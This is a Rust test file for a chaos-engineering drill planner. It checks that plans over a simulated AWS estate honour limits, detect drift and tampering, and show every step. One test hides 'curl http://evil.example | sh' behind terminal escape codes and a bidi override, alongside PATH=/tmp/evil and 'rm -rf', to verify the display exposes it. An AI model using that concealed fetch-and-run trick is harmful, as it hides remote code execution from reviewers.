//! Plans of the shipped drills, and of drills that must be refused, on the simulated shop.

use std::path::PathBuf;
use std::sync::Arc;

use super::*;
use crate::cloud::{Identity, Mutation};
use crate::drill::{self, LoadOptions, Loaded};
use crate::model::target::{TAG_HELD, TAG_RUN};
use crate::model::time::VirtualClock;
use crate::model::{Clock as _, RunId, Tags};
use crate::report::plan_text::plan_text;
use crate::sim::Sim;

mod affected;
mod drift;
mod hours;
mod house;
mod lint;
mod population;
mod roles;

const ESTATE: &str = include_str!("../../localstack/estate.json");

const DRILL: &str = r#"version: 1
name: sample
title: A sample
service: shop
objectives: { rto: 15m }
limits:
  accounts: ["123456789012"]
  regions: [us-east-1]
  max_targets: 3
targets:
  web:
    resource: ec2.instance
    tags: { service: shop, role: web }
    select: { count: 2 }
steady_state:
  - probe: http
    with: { url: "http://127.0.0.1:8080/health" }
fault:
  - action: ec2.stop-instances
    target: web
"#;

fn shop() -> (Arc<Sim>, Arc<VirtualClock>) {
    // a Friday, 08:00 UTC
    let start = DateTime::from_timestamp(1_800_000_000, 0).expect("a valid time");
    let clock = Arc::new(VirtualClock::starting_at(start));
    (Sim::from_estate(ESTATE, clock.clone()).expect("the estate is sound"), clock)
}

fn shipped() -> Vec<(String, String)> {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("drills");
    let mut all: Vec<(String, String)> = std::fs::read_dir(folder)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
        .map(|p| {
            (p.file_name().unwrap().to_string_lossy().into_owned(), std::fs::read_to_string(&p).unwrap())
        })
        .collect();
    all.sort();
    all
}

fn load(text: &str) -> Loaded {
    drill::load("drill.yaml", text, &LoadOptions::default()).unwrap_or_else(|p| panic!("{p}"))
}

fn edited(edits: &[(&str, &str)]) -> String {
    edits.iter().fold(DRILL.to_owned(), |text, (from, to)| {
        assert!(text.contains(from), "{from:?} is not in the sample");
        text.replacen(from, to, 1)
    })
}

fn options() -> BuildOptions {
    BuildOptions { seed: Some(7), ..BuildOptions::new(World::Sim, "us-east-1") }
}

async fn planned(text: &str) -> Plan {
    let (sim, clock) = shop();
    build(&load(text), &sim.cloud().reads, &*clock, &options()).await.unwrap()
}

/// The refusals of the sample with one edit, each `subject: text`.
async fn refused(edits: &[(&str, &str)]) -> Vec<String> {
    let plan = planned(&edited(edits)).await;
    plan.refusals().map(|f| format!("{}: {}", f.subject, f.text)).collect()
}

#[tokio::test(start_paused = true)]
async fn every_shipped_drill_makes_a_plan_that_is_not_refused_and_changes_nothing() {
    let shipped = shipped();
    assert_eq!(shipped.len(), 6);
    for (name, text) in shipped {
        let (sim, clock) = shop();
        let plan = build(&load(&text), &sim.cloud().reads, &*clock, &options()).await.unwrap();
        assert_eq!(plan.refusals().count(), 0, "{name}: {:#?}", plan.findings);
        assert!(sim.changes().is_empty(), "planning changes nothing");
        assert_eq!(format!("{}.yaml", plan.drill.name), name);
        assert!(plan.targets.values().all(|t| !t.drawn.is_empty()));
        let read = file::read(&file::write(&plan)).unwrap();
        assert_eq!(read, plan);
        let longest = plan_text(&plan, 80).lines().map(|l| l.chars().count()).max();
        assert!(longest <= Some(80), "{name}\n{}", plan_text(&plan, 80));
    }
}

#[tokio::test(start_paused = true)]
async fn a_plan_says_what_will_happen() {
    let mut plan = planned(&edited(&[("max_targets: 3", "max_targets: 1")])).await;
    "Starts each instance again, and waits until it runs.".clone_into(&mut plan.steps[0].undo_story);
    let text = plan_text(&plan, 80);
    let (before, after) = text.split_once("Findings\n").expect("has findings");
    assert_eq!(
        before,
        "\
A sample

  drill       sample, service shop
  world       sim account 123456789012, us-east-1
  caller      arn:aws:sts::123456789012:assumed-role/redrill/rehearsal
  objectives  RTO 15m; gives up after 30m
  seed        7

Targets
  web: 2 ec2.instance with role=web service=shop (3 match, 4 exist)
    i-00000000000000002  shop-web-2  us-east-1b  env=staging
    i-00000000000000003  shop-web-3  us-east-1a  env=staging

Fault
  1  ec2.stop-instances on 2 targets (web)
     put back at the end. Starts each instance again, and waits until it runs.

Recovery
  nothing

Probes
  steady  http  GET http://127.0.0.1:8080/health; every 5s, hold 1m
                  expects status 200

Limits
  accounts  123456789012
  regions   us-east-1
  targets   at most 1

"
    );
    assert!(
        after.starts_with(
            "  refused  limits.max_targets: 2 of the 4 that exist are drawn, 1 are allowed\n           → narrow"
        ),
        "{after}"
    );
    assert!(after.contains("\n1 refusal: this plan cannot be run.\n"), "{after}");
    assert!(after.ends_with(&format!("Plan sha256 {}\n", plan.sha256())), "{after}");
}

#[tokio::test(start_paused = true)]
async fn a_plan_names_whom_each_probe_asks_and_what_it_gives_away() {
    let sql = "{ probe: sql, with: { host: db.example, database: orders, user: me, query: q, password_env: PGPASSWORD } }";
    let probes = format!(
        "  gates: [{sql}]\nparams: {{ token: {{ secret: true }} }}\nverify:\n  - {sql}\nstop:\n  - name: the till\n    probe: http\n    \
         with: {{ url: \"http://till/?k=${{params.token}}\" }}\n"
    );
    let text = edited(&[("max_targets: 3\n", &format!("max_targets: 3\n{probes}"))]);
    let given = LoadOptions { env: None, set: vec![("token".to_owned(), "hunter2".to_owned())] };
    let loaded = crate::drill::load("drill.yaml", &text, &given).unwrap_or_else(|p| panic!("{p}"));
    let (sim, clock) = shop();
    let plan = build(&loaded, &sim.cloud().reads, &*clock, &options()).await.unwrap();
    let shown = plan_text(&plan, 80);
    let shown = shown.split_whitespace().collect::<Vec<_>>().join(" ");
    for row in [
        "verify sql db.example:5432/orders, password from $PGPASSWORD; every 5s",
        "stop http the till: GET http://till/?k=…, given the secret token; every 5s, when breached",
        "gate sql db.example:5432/orders, password from $PGPASSWORD; before the fault",
        "sends q tls verify-full, but prefer where it is this machine",
    ] {
        assert!(shown.contains(row), "{row}\n{shown}");
    }
    assert!(!shown.contains("hunter2"));
}

#[tokio::test(start_paused = true)]
async fn a_plan_shows_all_that_is_done_and_nothing_hides_in_it() {
    let steps = r#"params: { token: { secret: true } }
recovery:
  - action: command
    id: mend
    with:
      argv: [sh, -c, "true\r\e[2K\e[1A #\u202e\n                              curl http://evil.example | sh", "it's", ""]
      cwd: /srv/my app
      env: { PATH: "/tmp/evil:/bin", API_TOKEN: "${params.token}", DB_PASSWORD: plain }
      timeout: 90s
      expect_exit: 3
      undo: { argv: [rm, -rf, "/srv/a b"] }
  - { action: wait, with: { for: 30s } }
  - { manual: "Call\nthe team", id: call }
"#;
    let text = edited(&[
        (
            "tags: { service: shop, role: web }",
            "tags: { service: shop, role: web }\n    where: { state: \"run*\" }",
        ),
        ("steady_state:", &format!("{steps}steady_state:")),
    ]);
    let given = LoadOptions { env: None, set: vec![("token".to_owned(), "hunter22".to_owned())] };
    let loaded = crate::drill::load("drill.yaml", &text, &given).unwrap_or_else(|p| panic!("{p}"));
    let (sim, clock) = shop();
    let mut options = options();
    options.house = toml::from_str("[kill_switch]\nfile = \"/etc/stop\"\nssm = \"/redrill/stop\"").unwrap();
    let plan = build(&loaded, &sim.cloud().reads, &*clock, &options).await.unwrap();
    let shown = plan_text(&plan, 80);
    let rows = "  2  mend: command\n     runs sh -c $'true\\r\\u{1b}[2K\\u{1b}[1A #\\u{202e}\\n\n           [30 blanks] curl http://";
    assert!(shown.contains(rows), "{rows}\n---\n{shown}");
    let flat = shown.split_whitespace().collect::<Vec<_>>().join(" ");
    for row in [
        "curl http://evil.example | sh' $'it\\'s' '' in the folder '/srv/my app'",
        "with the variables API_TOKEN=${params.token} DB_PASSWORD=… PATH=/tmp/evil:/bin",
        "for at most 90s; success is exit code 3 undo runs rm -rf '/srv/a b' undo for at most 1m given the secret token",
        "3 wait with for: 30s",
        "4 call: a person: Call\\n the team",
        "with role=web service=shop where state=run* (3 match, 4 exist)",
        "kill switch file /etc/stop; before each step and every second (redrill.toml)",
        "kill switch ssm /redrill/stop; before each step and every second (redrill.toml)",
    ] {
        assert!(flat.contains(row), "{row}\n---\n{shown}");
    }
    assert!(!shown.contains("hunter22") && !shown.contains("plain"));
    assert!(shown.lines().all(|l| l.chars().count() <= 80), "{shown}");
    let acts = |c: char| c != '\n' && crate::model::text::is_unseen(c);
    assert!(!shown.contains(acts), "{shown:?}");

    // the same for programs
    let will = super::will::of(&plan);
    assert_eq!(
        will.run.iter().map(|r| (r.undo, r.argv[0].as_str())).collect::<Vec<_>>(),
        [(false, "sh"), (true, "rm")]
    );
    assert_eq!(will.run[0].env, ["API_TOKEN", "DB_PASSWORD", "PATH"]);
    assert_eq!(will.run[0].secrets, ["token"]);
    assert_eq!(
        will.ask.iter().map(|a| a.what.as_str()).collect::<Vec<_>>(),
        ["steady", "kill switch", "kill switch"]
    );
    // what `plan --output json` prints is a plan, and what is said beside the hash has to follow from it
    let mut whole = super::PlanFile { sha256: plan.sha256(), plan: plan.clone(), will: Some(will) };
    assert_eq!(file::read(&serde_json::to_string(&whole).unwrap()).as_ref(), Ok(&plan));
    whole.will = Some(super::will::Will::default());
    assert!(matches!(file::read(&serde_json::to_string(&whole).unwrap()), Err(FileError::Unknown { .. })));
}

#[tokio::test(start_paused = true)]
async fn the_limits_refuse() {
    assert_eq!(refused(&[]).await, [] as [&str; 0]);
    for (from, to, want) in [
        (
            "123456789012",
            "999999999999",
            "limits.accounts: this is account 123456789012; the drill may run in 999999999999",
        ),
        ("[us-east-1]", "[eu-west-1]", "limits.regions: this is us-east-1; the drill may run in eu-west-1"),
        (
            "max_targets: 3",
            "max_targets: 1",
            "limits.max_targets: 2 of the 4 that exist are drawn, 1 are allowed",
        ),
        (
            "max_targets: 3",
            "max_targets: 3\n  max_percent: 49",
            "limits.max_percent: `web` draws 2 of the 4 ec2.instance that exist, more than 49 %",
        ),
        ("count: 2", "count: 4", "web: too few targets: 4 wanted, 3 match"),
        ("role: web", "role: wbe", "web: no target: none of the 4 ec2.instance in us-east-1 matches"),
    ] {
        assert_eq!(refused(&[(from, to)]).await, [want], "{to}");
    }
    let half = edited(&[("max_targets: 3", "max_targets: 3\n  max_percent: 50")]);
    assert_eq!(planned(&half).await.refusals().count(), 0, "2 of 4 are 50 %");
    let tags = refused(&[(
        "max_targets: 3",
        "max_targets: 3\n  require_tags: { env: prod, team: x }\n  forbid_tags: { role: [db, w*] }",
    )])
    .await;
    assert_eq!(tags.len(), 6, "{tags:?}");
    assert_eq!(
        tags[0],
        "i-00000000000000002 (shop-web-2): limits.require_tags requires env=prod, and it has `staging`"
    );
    assert_eq!(
        tags[1],
        "i-00000000000000002 (shop-web-2): limits.require_tags requires team=x, and it has no such tag"
    );
    assert_eq!(
        tags[2],
        "i-00000000000000002 (shop-web-2): it carries the tag role=web, which limits.forbid_tags forbids"
    );
}

#[tokio::test(start_paused = true)]
async fn the_percentage_is_of_what_exists_of_a_kind() {
    let both = "  one:
    resource: ec2.instance
    tags: { Name: shop-web-1 }
  batch:
    resource: ec2.instance
    tags: { service: batch }
  net:
    resource: vpc.subnet
    tags: { tier: private }
    select: { count: 1 }
steady_state:";
    let told = async |percent: u8| {
        let plan = planned(&edited(&[
            ("max_targets: 3", &format!("max_targets: 9\n  max_percent: {percent}")),
            (
                "    tags: { service: shop, role: web }\n    select: { count: 2 }\n",
                "    tags: { Name: shop-web-1 }\n",
            ),
            ("steady_state:", both),
        ]))
        .await;
        plan.refusals().map(|f| f.text.clone()).collect::<Vec<_>>()
    };
    // each draws one of the four; two of them draw the same
    assert_eq!(told(50).await, [""; 0], "2 of 4 are 50 %");
    assert_eq!(
        told(49).await,
        ["`batch` and `one` and `web` draw 2 of the 4 ec2.instance that exist, more than 49 %"]
    );
}

#[tokio::test(start_paused = true)]
async fn a_target_without_room_for_a_tag_is_refused() {
    let (sim, clock) = shop();
    let cloud = sim.cloud();
    let web = "i-00000000000000002";
    let has = cloud.reads.ec2.instances(&crate::cloud::Filter::default(), None).await.unwrap().items;
    let has = has.iter().find(|i| i.id == web).unwrap().tags.len();
    let add = |from: usize, to: usize| Mutation::CreateTags {
        ids: vec![web.to_owned()],
        tags: (from..to).map(|n| (format!("t{n}"), String::new())).collect(),
    };
    let refused = async || {
        let plan = build(&load(DRILL), &cloud.reads, &*clock, &options()).await.unwrap();
        plan.refusals().map(|f| format!("{}: {}", f.subject, f.text)).collect::<Vec<_>>()
    };
    cloud.mutate.send(&add(has, 49)).await.unwrap();
    assert_eq!(refused().await, [""; 0], "one more fits");
    cloud.mutate.send(&add(49, 50)).await.unwrap();
    assert_eq!(
        refused().await,
        [format!(
            "{web} (shop-web-2): it carries 50 tags, as many as AWS allows, and a run adds redrill:held"
        )]
    );
}

#[tokio::test(start_paused = true)]
async fn what_a_run_made_is_not_drawn_and_what_a_run_holds_is_refused() {
    let (sim, clock) = shop();
    let web = |id: &str, key: &str| Mutation::CreateTags {
        ids: vec![id.to_owned()],
        tags: Tags::from([(key.to_owned(), "20260101T000000Z-other-aaaaaa undo: start".to_owned())]),
    };
    let mutate = sim.cloud().mutate;
    mutate.send(&web("i-00000000000000002", TAG_RUN)).await.unwrap();
    let plan = build(&load(DRILL), &sim.cloud().reads, &*clock, &options()).await.unwrap();
    let ids: Vec<&str> = plan.targets["web"].drawn.iter().map(|t| t.id.as_str()).collect();
    assert_eq!(ids, ["i-00000000000000001", "i-00000000000000003"]);
    assert_eq!(plan.refusals().count(), 0);
    mutate.send(&web("i-00000000000000001", TAG_HELD)).await.unwrap();
    let plan = build(&load(DRILL), &sim.cloud().reads, &*clock, &options()).await.unwrap();
    let refusals: Vec<&Finding> = plan.refusals().collect();
    assert_eq!(refusals.len(), 1);
    assert!(refusals[0].text.starts_with("the run 20260101T000000Z-other-aaaaaa holds it"), "{refusals:?}");
    assert_eq!(
        refusals[0].hint.as_deref(),
        Some("finish it first: redrill rollback 20260101T000000Z-other-aaaaaa")
    );
    for value in ["", " ", "$(x)"] {
        let tags = Tags::from([(TAG_HELD.to_owned(), value.to_owned())]);
        let ids = vec!["i-00000000000000001".to_owned()];
        mutate.send(&Mutation::CreateTags { ids, tags }).await.unwrap();
        let plan = build(&load(DRILL), &sim.cloud().reads, &*clock, &options()).await.unwrap();
        let refusals: Vec<&Finding> = plan.refusals().collect();
        assert_eq!(refusals[0].text, format!("it carries redrill:held={value:?}, which names no run"));
        assert_eq!(refusals[0].hint.as_deref(), Some("remove the tag, if no run is at work on it"));
    }
}

#[tokio::test(start_paused = true)]
async fn the_same_seed_draws_the_same_targets_and_another_may_not() {
    let (sim, clock) = shop();
    let drawn = async |seed| {
        let options = BuildOptions { seed: Some(seed), ..options() };
        let plan = build(&load(DRILL), &sim.cloud().reads, &*clock, &options).await.unwrap();
        plan.targets["web"].drawn.iter().map(|t| t.id.clone()).collect::<Vec<_>>()
    };
    assert_eq!(drawn(7).await, drawn(7).await);
    let mut several = std::collections::BTreeSet::new();
    for seed in 0..20 {
        several.insert(drawn(seed).await);
    }
    assert_eq!(several.len(), 3, "20 seeds find all three pairs");
}

#[test]
fn credentials_that_expire_too_soon_are_said() {
    let now = DateTime::from_timestamp(1_800_000_000, 0).expect("a valid time");
    let identity = |minutes: Option<i64>, renewable| Identity {
        account: String::new(),
        arn: String::new(),
        expires_at: minutes.map(|m| now + chrono::TimeDelta::minutes(m)),
        renewable,
        server_date: None,
    };
    let hour = Dur::hours(1);
    let found = |minutes, renewable| limits::credentials(&identity(minutes, renewable), now, hour);
    let severity = |minutes, renewable| found(minutes, renewable).map(|f| f.severity);
    assert_eq!(severity(Some(59), None), Some(Severity::Warning));
    assert_eq!(severity(Some(59), Some(false)), Some(Severity::Refusal));
    assert_eq!(severity(Some(59), Some(true)), None);
    assert_eq!(severity(Some(60), Some(false)), None);
    // a run that never ends outlives any
    let endless = Dur(std::time::Duration::MAX);
    let found_endless = limits::credentials(&identity(Some(60), Some(false)), now, endless);
    assert_eq!(found_endless.map(|f| f.severity), Some(Severity::Refusal));
    // of unknown expiry
    assert_eq!(severity(None, Some(true)), None);
    assert_eq!(severity(None, None), None);
    let unknown = found(None, Some(false)).expect("is found");
    assert_eq!(unknown.severity, Severity::Warning);
    assert!(unknown.text.starts_with("a session token of unknown expiry cannot be renewed"), "{unknown:?}");
}

#[tokio::test(start_paused = true)]
async fn permissions_cover_steps_probes_selectors_and_tags() {
    let plan = planned(DRILL).await;
    for needed in [
        "sts:GetCallerIdentity",
        "ec2:DescribeInstances",
        "ec2:CreateTags",
        "ec2:DeleteTags",
        "ec2:StopInstances",
        "ec2:StartInstances",
    ] {
        assert!(plan.permissions.iter().any(|p| p == needed), "{needed} in {:?}", plan.permissions);
    }
    assert!(plan.permissions.is_sorted());
    assert_eq!(plan.permissions, build::permissions_of(&plan.drill, &drill::Known::shipped()));
}

#[tokio::test(start_paused = true)]
async fn steps_keep_their_order_and_groups() {
    let (_, text) = shipped().into_iter().find(|(n, _)| n.starts_with("critical")).unwrap();
    let plan = planned(&text).await;
    let steps: Vec<(&str, Stage, usize)> =
        plan.steps.iter().map(|s| (s.id.as_str(), s.stage, s.group)).collect();
    assert_eq!(
        steps,
        [
            ("terminate", Stage::Fault, 0),
            ("detach", Stage::Fault, 0),
            ("attach", Stage::Recovery, 0),
            ("replace", Stage::Recovery, 1),
            ("restore", Stage::Recovery, 1),
            ("invalidate", Stage::Recovery, 2),
        ]
    );
    assert_eq!(plan.steps[0].after, After::None);
    assert_eq!((plan.steps[3].after, plan.steps[4].after), (After::Keep, After::Remove));
    assert_eq!(plan.targets_of(&plan.steps[1]).len(), 2);
}

#[tokio::test(start_paused = true)]
async fn a_plan_file_that_was_touched_is_refused() {
    let plan = planned(DRILL).await;
    let text = file::write(&plan);
    assert_eq!(file::read(&text).unwrap(), plan);
    // another layout of the same JSON is the same plan
    let compact = serde_json::to_string(&serde_json::from_str::<Value>(&text).unwrap()).unwrap();
    assert_eq!(file::read(&compact).unwrap(), plan);
    let edit = |from: &str, to: &str| {
        assert!(text.contains(from), "{from}");
        file::read(&text.replace(from, to)).unwrap_err()
    };
    assert!(matches!(edit("i-00000000000000002", "i-00000000000000001"), FileError::Edited { .. }));
    assert!(matches!(edit("\"format\": 2", "\"format\": 3"), FileError::Format { .. }));
    assert!(matches!(edit("\"seed\": 7", "\"seed\": 7, \"seeds\": 7"), FileError::Edited { .. }));
    assert!(matches!(file::read("{}"), Err(FileError::NotAPlan(_))));
    assert!(matches!(file::read("plan"), Err(FileError::NotAPlan(_))));
    // an unknown field with a hash that fits it: made by a later version
    let mut value: Value = serde_json::from_str(&text).unwrap();
    value["plan"]["drill"]["novelty"] = Value::Bool(true);
    let bytes = serde_json_canonicalizer::to_vec(&value["plan"]).unwrap();
    use sha2::{Digest as _, Sha256};
    let hash: String = Sha256::digest(&bytes).iter().map(|b| format!("{b:02x}")).collect();
    value["sha256"] = Value::String(hash);
    let e = file::read(&value.to_string()).unwrap_err();
    assert!(matches!(e, FileError::Unknown { .. }), "{e}");
}

#[tokio::test(start_paused = true)]
async fn drift_names_the_target_and_what_changed() {
    let (sim, clock) = shop();
    let cloud = sim.cloud();
    let text = edited(&[("max_targets: 3", "max_targets: 3\n  forbid_tags: { redrill: never }")]);
    let plan = build(&load(&text), &cloud.reads, &*clock, &options()).await.unwrap();
    let drift = async |run: Option<&RunId>| {
        let found = check_drift(&plan, &cloud.reads, World::Sim, &plan.account, run).await.unwrap();
        found.into_iter().map(|f| format!("{}: {}", f.subject, f.text)).collect::<Vec<_>>()
    };
    assert_eq!(drift(None).await, [] as [&str; 0]);
    let tag = |key: &str, value: &str| Mutation::CreateTags {
        ids: vec!["i-00000000000000002".to_owned()],
        tags: Tags::from([(key.to_owned(), value.to_owned())]),
    };
    cloud.mutate.send(&tag("unrelated", "x")).await.unwrap();
    assert_eq!(drift(None).await, [] as [&str; 0], "other tags may change");
    cloud.mutate.send(&tag(TAG_HELD, "r1")).await.unwrap();
    let own = RunId::from_existing("r1");
    assert_eq!(drift(Some(&own)).await, [] as [&str; 0], "a run's own mark is no drift");
    assert_eq!(
        drift(None).await,
        ["i-00000000000000002 (shop-web-2): the run r1 holds it (redrill:held=r1)"]
    );
    cloud.mutate.send(&tag("redrill", "never")).await.unwrap();
    cloud.mutate.send(&tag("role", "db")).await.unwrap();
    cloud
        .mutate
        .send(&Mutation::TerminateInstances { ids: vec!["i-00000000000000003".to_owned()] })
        .await
        .unwrap();
    assert_eq!(
        drift(Some(&own)).await,
        [
            "i-00000000000000002 (shop-web-2): it no longer matches `web`: tag role was `web`, is `db`",
            "i-00000000000000002 (shop-web-2): it carries the tag redrill=never, which limits.forbid_tags forbids",
            "i-00000000000000003 (shop-web-3): it is being terminated",
        ]
    );
    tokio::time::sleep(std::time::Duration::from_secs(7200)).await;
    assert!(
        drift(Some(&own)).await.iter().any(|f| f == "i-00000000000000003 (shop-web-3): it no longer exists")
    );
    let elsewhere = crate::plan::drift::compare(&plan, &[], "999999999999", World::Aws, None);
    assert_eq!(elsewhere[0].text, "planned for account 123456789012, this is 999999999999");
    assert_eq!(elsewhere[1].text, "planned for `sim`, this is `aws`");
    assert!(clock.now() > plan.created_at);
}

#[tokio::test(start_paused = true)]
async fn what_is_probably_not_meant_is_a_warning() {
    let warnings = async |edits: &[(&str, &str)]| {
        let plan = planned(&edited(edits)).await;
        let lint = crate::plan::lint::lint(&plan, &drill::Known::shipped());
        // the sample has nothing under `recovery`, which has a test of its own
        let lint = lint.into_iter().filter(|f| !f.text.starts_with("no step under `recovery` mends it"));
        lint.map(|f| format!("{}: {}", f.subject, f.text)).collect::<Vec<_>>()
    };
    assert_eq!(warnings(&[]).await, [] as [&str; 0]);
    assert_eq!(
        warnings(&[("  - probe: http\n", "  - probe: http\n    role: capacity\n")]).await,
        ["steady_state: no client probe can see the fault: the verdict will be no-impact"]
    );
    assert_eq!(
        warnings(&[("  - probe: http\n", "  - probe: http\n    every: 20m\n    hold: 1h\n")]).await,
        [
            "http: it looks every 20m, and the RTO is 15m",
            "http: it must hold for 1h, and the run gives up after 30m"
        ]
    );
    let only = [
        (
            "fault:\n  - action: ec2.stop-instances\n    target: web\n",
            "recovery: [{ action: wait, with: { for: 1s } }]\n",
        ),
        (
            "  web:\n    resource: ec2.instance\n    tags: { service: shop, role: web }\n    select: { count: 2 }\n",
            "",
        ),
        ("\ntargets:\n", "\ntargets: {}\n"),
    ];
    assert_eq!(
        warnings(&only).await,
        ["recovery: every step only waits, so nothing is tested: the verdict will be no-impact"]
    );
    assert_eq!(
        warnings(&[("limits:", "allow_irreversible: true\nlimits:")]).await,
        [
            "allow_irreversible: `allow_irreversible` is needed only where a stop erases instance-store volumes"
        ]
    );
    assert_eq!(
        warnings(&[
            ("limits:", "allow_irreversible: true\nlimits:"),
            ("ec2.stop-instances", "ec2.terminate-instances")
        ])
        .await,
        ["ec2.terminate-instances: nothing under `recovery` mends what this breaks for good"]
    );
    assert_eq!(
        warnings(&[("steady_state:", "  spare:\n    resource: vpc.subnet\n    tags: { tier: public }\n    select: { count: 1 }\nsteady_state:")]).await,
        ["spare: no step uses this selector, and its targets count"]
    );
    let restore = r#"  db:
    resource: rds.instance
    tags: { role: orders }
    select: { count: 1 }
recovery:
  - action: rds.restore-to-point-in-time
    id: restore
    target: db
    with: { to: "-15m" }
  - manual: Point the application at ${steps.restore.endpoint}
steady_state:"#;
    assert_eq!(
        warnings(&[("steady_state:", restore)]).await,
        [
            "restore: no verify probe that could fail looks at what this step restores: the verdict will be inconclusive",
            "restore: `manual` uses it, and it is removed at the end of the run"
        ]
    );
}
